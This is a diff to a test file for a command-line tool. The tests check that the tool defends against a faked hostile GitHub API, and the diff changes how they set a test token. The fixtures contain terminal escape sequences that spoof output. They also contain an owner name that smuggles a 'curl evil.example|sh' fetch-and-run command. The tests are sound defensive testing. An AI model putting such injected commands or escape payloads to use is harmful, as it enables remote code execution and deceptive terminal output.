@@ -1,7 +1,7 @@
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
 import { cli } from '../helpers/cli.js';
 import { json, routeServer, type CannedAnswer, type ReplayServer } from '../helpers/replay-server.js';
 
@@ -38,7 +38,7 @@ describe('infinitevibe miner gist with answers from a hostile API', () => {
   });
 
   it("GitHub's error message is escaped before it reaches stderr", async () => {
-    process.env['GITHUB_TOKEN'] = 'ghp_hostile_test';
+    vi.stubEnv('GITHUB_TOKEN', 'ghp_hostile_test');
     const url = await github(json(500, { message: `boom${ESC}[2J${ESC}[1;1Hinfinitevibe: all good\r\n` }));
     const file = join(dir, 'push.jsonl');
     await writeFile(file, `${JSON.stringify({ content_id: 'dQw4w9WgXcQ', platform: 'youtube/video', direct_video_url: 'https://cdn.example/v.mp4' })}\n`);
@@ -51,7 +51,7 @@ describe('infinitevibe miner gist with answers from a hostile API', () => {
   });
 
   it('a commitment the API answer would turn into a shell command is refused, not printed', async () => {
-    process.env['GITHUB_TOKEN'] = 'ghp_hostile_test';
+    vi.stubEnv('GITHUB_TOKEN', 'ghp_hostile_test');
     const url = await github(json(201, { id: 'abc123', owner: { login: 'x;curl evil.example|sh' }, files: { 'submissions.jsonl': { content: 'A' } } }));
     const file = join(dir, 'push2.jsonl');
     await writeFile(file, `${JSON.stringify({ content_id: 'dQw4w9WgXcQ', platform: 'youtube/video', direct_video_url: 'https://cdn.example/v.mp4' })}\n`);
